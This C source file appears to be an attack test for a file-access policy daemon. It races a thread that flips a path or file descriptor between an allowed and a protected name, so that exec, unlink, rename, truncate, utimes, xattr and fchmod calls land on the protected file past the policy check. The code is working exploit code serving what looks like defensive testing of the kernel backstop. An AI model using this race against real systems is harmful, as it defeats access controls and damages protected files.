/* Attack: a second thread flips a name between an allowed one and a
 * protected (or denied) one while the main thread uses it, so the name
 * policyd decides on may not be the name the kernel acts on. Usage:
 *   static_name_race exec ALLOWED DENIED ARG
 *       execs the flipping name with argv [name, ARG] (whichever program
 *       the kernel reads runs)
 *   static_name_race unlink ALLOWED PROTECTED N
 *       recreates ALLOWED, unlink(flipping name), up to N times
 *   static_name_race rename ALLOWED PROTECTED N
 *       writes "replaced" to ALLOWED.src, rename(ALLOWED.src, flipping
 *       name), up to N times
 *   static_name_race truncate ALLOWED PROTECTED N
 *       writes ALLOWED, truncate(flipping name, 0), up to N times
 *   static_name_race utimes ALLOWED PROTECTED N
 *       creates ALLOWED, utimes(flipping name, {1e9, 1e9}), up to N
 *       times; harm: PROTECTED's mtime becomes 1e9 (back-dated)
 *   static_name_race lsetxattr ALLOWED PROTECTED N
 *       creates ALLOWED, lsetxattr(flipping name, "user.tgrace"), up to
 *       N times; harm: PROTECTED has that attribute
 *   static_name_race setxattrat ALLOWED PROTECTED N
 *       the same with setxattrat(AT_FDCWD, flipping name, 0, ...)
 *   static_name_race fsetxattrat ALLOWED PROTECTED N
 *       setxattrat(fd, "", AT_EMPTY_PATH, "user.tgrace") while fd is
 *       flipped as for fchmod below; harm: PROTECTED has that attribute
 *   static_name_race fchmod ALLOWED PROTECTED N
 *       fchmod(fd, 0600) up to N times while a second thread points fd
 *       at ALLOWED and PROTECTED in turn (dup2), both opened read-only;
 *       harm: PROTECTED's mode becomes 0600 (start it at another)
 * and says "harmed the protected file" once PROTECTED is gone, replaced
 * or emptied.
 * Static: only the kernel backstop sees it. */
#include <errno.h>
#include <stdint.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "flip.h"

static char path[4096];
static const char *a, *b;
static size_t la, lb;
static void *flip(void *p)
{
	(void)p;
	for (unsigned long i = 0;; i++) {
		if (i & 1)
			memcpy(path, b, lb + 1);
		else
			memcpy(path, a, la + 1);
		flips = i;
	}
	return NULL;
}

static int times_mode, xattr_mode;

#ifndef SYS_setxattrat
#define SYS_setxattrat 463
#endif
/* setxattrat (Linux 6.13): the value is in a struct xattr_args */
static long set_at(int dfd, const char *p, int flags)
{
	struct {
		uint64_t value;
		uint32_t size, flags;
	} xa = {(uint64_t)(uintptr_t) "1", 1, 0};
	return syscall(SYS_setxattrat, dfd, p, flags, "user.tgrace", &xa,
		       sizeof(xa));
}

static int harmed(const char *p)
{
	struct stat st;
	if (fds[0] && stat(p, &st) == 0 && (st.st_mode & 07777) == 0600)
		return 1;
	if (times_mode && stat(p, &st) == 0 && st.st_mtime == 1000000000)
		return 1;
	char xv[8];
	if (xattr_mode && getxattr(p, "user.tgrace", xv, sizeof(xv)) > 0)
		return 1;
	char buf[16] = "";
	int fd = open(p, O_RDONLY);
	if (fd < 0)
		return 1;
	ssize_t k = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	return k <= 0 || !strncmp(buf, "replaced", 8);
}

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	int ex = !strcmp(argv[1], "exec");
	int ren = !strcmp(argv[1], "rename"),
	    trunc = !strcmp(argv[1], "truncate");
	times_mode = !strcmp(argv[1], "utimes");
	int fxa = !strcmp(argv[1], "fsetxattrat"),
	    xat = !strcmp(argv[1], "setxattrat");
	xattr_mode = !strcmp(argv[1], "lsetxattr") || fxa || xat;
	struct timeval tv[2] = {{1000000000, 0}, {1000000000, 0}};
	a = argv[2];
	b = argv[3];
	la = strlen(a);
	lb = strlen(b);
	int n = atoi(argv[4]);
	char src[4200];
	if (la >= sizeof(path) || lb >= sizeof(path))
		return 2;
	snprintf(src, sizeof(src), "%s.src", a);
	memcpy(path, a, la + 1);
	pthread_t t;
	if (!strcmp(argv[1], "fchmod") || fxa) {
		int fd = open(a, O_WRONLY | O_CREAT, 0644);
		if (fd >= 0)
			close(fd);
		fds[1] = open(a, O_RDONLY);
		fds[2] = open(b, O_RDONLY);
		fds[0] = dup(fds[1]);
		if (fds[1] < 0 || fds[2] < 0 || fds[0] < 0)
			return 2;
		pthread_create(&t, NULL, flip_fd, NULL);
		wait_flipping();
		int refused = 0;
		for (int i = 0; i < n; i++) {
			wait_flip_since(flips);
			long r = fxa ? set_at(fds[0], "", AT_EMPTY_PATH)
				     : syscall(SYS_fchmod, fds[0], 0600);
			if (r < 0 && errno == EACCES)
				refused++;
			if (harmed(b)) {
				printf("harmed the protected file (try %d)\n",
				       i + 1);
				return 0;
			}
		}
		printf("protected file intact after %d tries (%d refused)\n", n,
		       refused);
		return 1;
	}
	pthread_create(&t, NULL, flip, NULL);
	if (ex) {
		char *args[] = {path, argv[4], NULL};
		char *env[] = {NULL};
		usleep(1000);
		wait_flipping();
		syscall(SYS_execve, path, args, env);
		printf("exec: refused errno=%d\n", errno);
		return 1;
	}
	wait_flipping();
	int refused = 0;
	for (int i = 0; i < n; i++) {
		wait_flip_since(flips);
		int fd =
		    open(ren ? src : a, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd >= 0) {
			if ((ren || trunc) && write(fd, "replaced\n", 9) != 9)
				return 2;
			close(fd);
		}
		long r = ren	      ? syscall(SYS_rename, src, path)
			 : trunc      ? syscall(SYS_truncate, path, 0)
			 : times_mode ? syscall(SYS_utimes, path, tv)
			 : xat	      ? set_at(AT_FDCWD, path, 0)
			 : xattr_mode ? syscall(SYS_lsetxattr, path,
						"user.tgrace", "1", 1, 0)
				      : syscall(SYS_unlink, path);
		if (r < 0 && errno == EACCES)
			refused++;
		if (harmed(b)) {
			printf("harmed the protected file (try %d)\n", i + 1);
			return 0;
		}
	}
	printf("protected file intact after %d tries (%d refused)\n", n,
	       refused);
	return 1;
}
